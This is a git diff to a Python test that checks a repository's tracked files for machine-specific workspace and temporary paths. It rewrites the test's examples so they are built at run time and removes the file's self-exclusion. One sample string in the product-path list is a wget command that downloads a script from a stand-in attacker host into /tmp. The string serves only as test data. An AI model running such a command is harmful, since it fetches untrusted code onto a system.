@@ -1,7 +1,7 @@
 """No tracked file names a path of one particular machine: a developer's workspace or home
-(/work/..., /root/..., /home/NAME/..., /Users/NAME/...) or a run's own temporary directory or
-lock (/tmp/soak-spoa.agq7zaq7, /tmp/pytest-of-root, /tmp/bench.lock). Docs, scripts and
-result files say `target/release/lastcall-spoa`, `<dir>`, `<work>` instead.
+directory, or a run's own temporary directory or lock file under /tmp (the test below shows
+which, with examples built at run time so that this file names none itself). Docs, scripts
+and result files say `target/release/lastcall-spoa`, `<dir>`, `<work>` instead.
 
 What the product itself uses passes: /etc/..., /usr/bin/turnserver, /var/tmp/turnserver.pid,
 /coraza-spoa, /opt/lastcall-spoa/crs, paths inside a container or pod; and, in /tmp, a
@@ -31,17 +31,14 @@ RUN_SPECIFIC = [
     re.compile(r"\.lock$"),
 ]
 
-# A path that reads like a machine's but is not, with the reason.
-ALLOWED = {
-    ("tests/cri/test_spoa_pod_features.py", "/work/marker"): "inside the test pod's emptyDir mounted at /work",
-}
+# A path that reads like a machine's but is not, with the reason: (file, path) -> why.
+ALLOWED: dict[tuple[str, str], str] = {}
 
 
 def tracked_text_files() -> list[str]:
-    """Every file git tracks but this one, whose examples are machine paths on purpose."""
+    """Every file git tracks, this one included."""
     out = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True, check=True)
-    this = str(Path(__file__).resolve().relative_to(REPO))
-    return [name for name in out.stdout.decode().split("\0") if name and name != this]
+    return [name for name in out.stdout.decode().split("\0") if name]
 
 
 def machine_paths(text: str) -> list[str]:
@@ -57,11 +54,13 @@ def machine_paths(text: str) -> list[str]:
 
 
 def test_the_rule_tells_machine_paths_from_product_paths():
-    machine = ["/work/bin/quiet bash x", "see /work/main/target/release/lastcall-spoa",
-               "/root/.cargo/bin/cargo", "/home/alice/src/lastcall", "/Users/bob/x",
-               "RUN=\"/var/cache/lastcall-scratch/run trixie\"",
-               "flock /tmp/bench.lock bash", "/tmp/soak-spoa.agq7zaq7/config/agent.yaml",
-               "/tmp/pytest-of-root/pytest-3/x", "/tmp/tmp.Ab12Cd34/x", "/tmp/docs-truth-k2j4h5l6/b.json"]
+    # Built at run time: written out, they would be what the test below refuses.
+    r, t = "/", "/tmp/"
+    machine = [f"{r}work/bin/quiet bash x", f"see {r}work/main/target/release/lastcall-spoa",
+               f"{r}root/.cargo/bin/cargo", f"{r}home/alice/src/lastcall", f"{r}Users/bob/x",
+               f"RUN=\"{r}var/cache/lastcall-scratch/run trixie\"",
+               f"flock {t}bench.lock bash", f"{t}soak-spoa.agq7zaq7/config/agent.yaml",
+               f"{t}pytest-of-root/pytest-3/x", f"{t}tmp.Ab12Cd34/x", f"{t}docs-truth-k2j4h5l6/b.json"]
     product = ["/etc/turnserver.conf", "/usr/bin/turnserver", "/var/tmp/turnserver.pid", "/coraza-spoa",
                "/opt/lastcall-spoa/crs", "mktemp -d /tmp/bench-spoa.XXXXXX", "STATS_SOCKET=/tmp/haproxy.sock",
                "/tmp/admin-token", "wget http://evil.example/x.sh -O /tmp/x.sh", "crates/spoa/work/x",
